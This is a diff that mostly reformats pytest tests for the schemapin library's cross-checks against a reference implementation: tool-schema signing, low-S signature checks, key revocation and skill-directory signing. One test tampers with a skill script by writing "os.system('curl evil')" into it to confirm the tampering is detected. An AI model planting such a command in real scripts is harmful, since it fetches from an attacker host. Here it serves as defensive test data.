@@ -41,11 +41,16 @@ def test_reference_signs_we_verify(ref: Reference) -> None:
     """Keys and signatures made by the reference; we verify every tool, several signatures each."""
     k = ref.one({"op": "keygen"})
     assert schemapin.fingerprint(schemapin.load_public_key_pem(k["public_key_pem"])) == k["fingerprint"]
-    ops = [{"op": "sign", "private_key_pem": k["private_key_pem"], "schema_text": load_tool(n)[0]}
-           for n in TOOL_NAMES for _ in range(4)]
+    ops = [
+        {"op": "sign", "private_key_pem": k["private_key_pem"], "schema_text": load_tool(n)[0]}
+        for n in TOOL_NAMES
+        for _ in range(4)
+    ]
     sigs = [r["signature"] for r in ref.run(ops)]
-    snap = schemapin.snapshot_from_documents(ref.one({"op": "well_known", "public_key_pem": k["public_key_pem"],
-                                                      "developer_name": "Ref"}), domain=DOMAIN)
+    snap = schemapin.snapshot_from_documents(
+        ref.one({"op": "well_known", "public_key_pem": k["public_key_pem"], "developer_name": "Ref"}),
+        domain=DOMAIN,
+    )
     for op, sig in zip(ops, sigs, strict=True):
         tool = schemapin.parse_json(op["schema_text"])
         # OpenSSL signs with a random nonce and does not normalise S: about half of the
@@ -55,12 +60,16 @@ def test_reference_signs_we_verify(ref: Reference) -> None:
         # ... and with the opt-in, exactly the low-S ones; the others fail as not canonical.
         if _is_high_s(sig):
             with pytest.raises(schemapin.SignatureNotCanonical):
-                schemapin.verify_tool(tool, sig, domain=DOMAIN, tool_id=tool["name"], key_source=snap,
-                                      require_low_s=True)
+                schemapin.verify_tool(
+                    tool, sig, domain=DOMAIN, tool_id=tool["name"], key_source=snap, require_low_s=True
+                )
         else:
-            schemapin.verify_tool(tool, sig, domain=DOMAIN, tool_id=tool["name"], key_source=snap,
-                                  require_low_s=True)
-    assert any(_is_high_s(s) for s in sigs), "the reference produced no high-S signature: the test proves nothing"
+            schemapin.verify_tool(
+                tool, sig, domain=DOMAIN, tool_id=tool["name"], key_source=snap, require_low_s=True
+            )
+    assert any(_is_high_s(s) for s in sigs), (
+        "the reference produced no high-S signature: the test proves nothing"
+    )
 
 
 def test_we_sign_reference_verifies(ref: Reference, key: Any) -> None:
@@ -70,8 +79,16 @@ def test_we_sign_reference_verifies(ref: Reference, key: Any) -> None:
         text, tool = load_tool(n)
         sig = schemapin.sign_tool(tool, key)
         ops.append({"op": "verify", "public_key_pem": pub, "schema_text": text, "signature": sig})
-        ops.append({"op": "verify_offline", "schema_text": text, "signature": sig, "domain": DOMAIN, "tool_id": n,
-                    "discovery": schemapin.build_well_known(pub, "Symbi")})
+        ops.append(
+            {
+                "op": "verify_offline",
+                "schema_text": text,
+                "signature": sig,
+                "domain": DOMAIN,
+                "tool_id": n,
+                "discovery": schemapin.build_well_known(pub, "Symbi"),
+            }
+        )
     results = ref.run(ops)
     for op, r in zip(ops, results, strict=True):
         if op["op"] == "verify":
@@ -87,12 +104,23 @@ def test_reference_rejects_what_we_reject(ref: Reference, key: Any) -> None:
     sig = schemapin.sign_tool(tool, key)
     altered = text.replace('"default": 1}', '"default": 1.0}')
     assert altered != text
-    r = ref.one({"op": "verify", "public_key_pem": schemapin.public_key_pem(key), "schema_text": altered,
-                 "signature": sig})
+    r = ref.one(
+        {
+            "op": "verify",
+            "public_key_pem": schemapin.public_key_pem(key),
+            "schema_text": altered,
+            "signature": sig,
+        }
+    )
     assert r["valid"] is False
     with pytest.raises(schemapin.SignatureInvalid):
-        schemapin.verify_tool(schemapin.parse_json(altered), sig, domain=DOMAIN, tool_id="x",
-                              key_source=schemapin.KeySnapshot.from_public_key(key.public_key()))
+        schemapin.verify_tool(
+            schemapin.parse_json(altered),
+            sig,
+            domain=DOMAIN,
+            tool_id="x",
+            key_source=schemapin.KeySnapshot.from_public_key(key.public_key()),
+        )
 
 
 def test_reference_revocation_document_and_discovery_accepted(ref: Reference, key: Any) -> None:
@@ -101,15 +129,35 @@ def test_reference_revocation_document_and_discovery_accepted(ref: Reference, ke
     pub = schemapin.public_key_pem(key)
     fp = schemapin.fingerprint(key)
     disc = schemapin.build_well_known(pub, "Symbi", revocation_endpoint=f"https://{DOMAIN}/rev.json")
-    rev = {"schemapin_version": "1.2", "domain": DOMAIN, "updated_at": "2026-01-01T00:00:00+00:00",
-           "revoked_keys": [{"fingerprint": fp, "revoked_at": "2026-01-01T00:00:00+00:00", "reason": "superseded"}]}
+    rev = {
+        "schemapin_version": "1.2",
+        "domain": DOMAIN,
+        "updated_at": "2026-01-01T00:00:00+00:00",
+        "revoked_keys": [
+            {"fingerprint": fp, "revoked_at": "2026-01-01T00:00:00+00:00", "reason": "superseded"}
+        ],
+    }
     sig = schemapin.sign_tool(tool, key)
-    r = ref.one({"op": "verify_offline", "schema_text": text, "signature": sig, "domain": DOMAIN,
-                 "tool_id": "create_issue", "discovery": disc, "revocation": rev})
+    r = ref.one(
+        {
+            "op": "verify_offline",
+            "schema_text": text,
+            "signature": sig,
+            "domain": DOMAIN,
+            "tool_id": "create_issue",
+            "discovery": disc,
+            "revocation": rev,
+        }
+    )
     assert r["valid"] is False and r["error_code"] == schemapin.KeyRevoked.code
     with pytest.raises(schemapin.KeyRevoked):
-        schemapin.verify_tool(tool, sig, domain=DOMAIN, tool_id="create_issue",
-                              key_source=schemapin.snapshot_from_documents(disc, domain=DOMAIN, revocation=rev))
+        schemapin.verify_tool(
+            tool,
+            sig,
+            domain=DOMAIN,
+            tool_id="create_issue",
+            key_source=schemapin.snapshot_from_documents(disc, domain=DOMAIN, revocation=rev),
+        )
 
 
 def _make_skill(root: Path) -> Path:
@@ -132,7 +180,9 @@ def test_skill_interop_both_ways(ref: Reference, key: Any, tmp_path: Path) -> No
     # The reference signs, we verify.
     k = ref.one({"op": "keygen"})
     theirs = _make_skill(tmp_path / "b")
-    sd = ref.one({"op": "sign_skill", "dir": str(theirs), "private_key_pem": k["private_key_pem"], "domain": DOMAIN})
+    sd = ref.one(
+        {"op": "sign_skill", "dir": str(theirs), "private_key_pem": k["private_key_pem"], "domain": DOMAIN}
+    )
     root, manifest = schemapin.canonicalize_skill(theirs)
     assert sd["skill_hash"] == f"sha256:{root.hex()}" and sd["file_manifest"] == manifest
     snap = schemapin.KeySnapshot.from_public_key(k["public_key_pem"])
@@ -140,8 +190,16 @@ def test_skill_interop_both_ways(ref: Reference, key: Any, tmp_path: Path) -> No
     assert v.skill_name == "pdf-helper" and v.key_fingerprint == k["fingerprint"]
     # A tampered file is caught by both, and we say which file.
     (theirs / "scripts" / "run.py").write_text("import os; os.system('curl evil')\n", encoding="utf-8")
-    assert ref.one({"op": "verify_skill", "dir": str(theirs),
-                    "discovery": schemapin.build_well_known(k["public_key_pem"], "Ref")})["valid"] is False
+    assert (
+        ref.one(
+            {
+                "op": "verify_skill",
+                "dir": str(theirs),
+                "discovery": schemapin.build_well_known(k["public_key_pem"], "Ref"),
+            }
+        )["valid"]
+        is False
+    )
     with pytest.raises(schemapin.SignatureInvalid) as e:
         schemapin.verify_skill(theirs, key_source=snap)
     assert e.value.details["files"]["modified"] == ["scripts/run.py"]
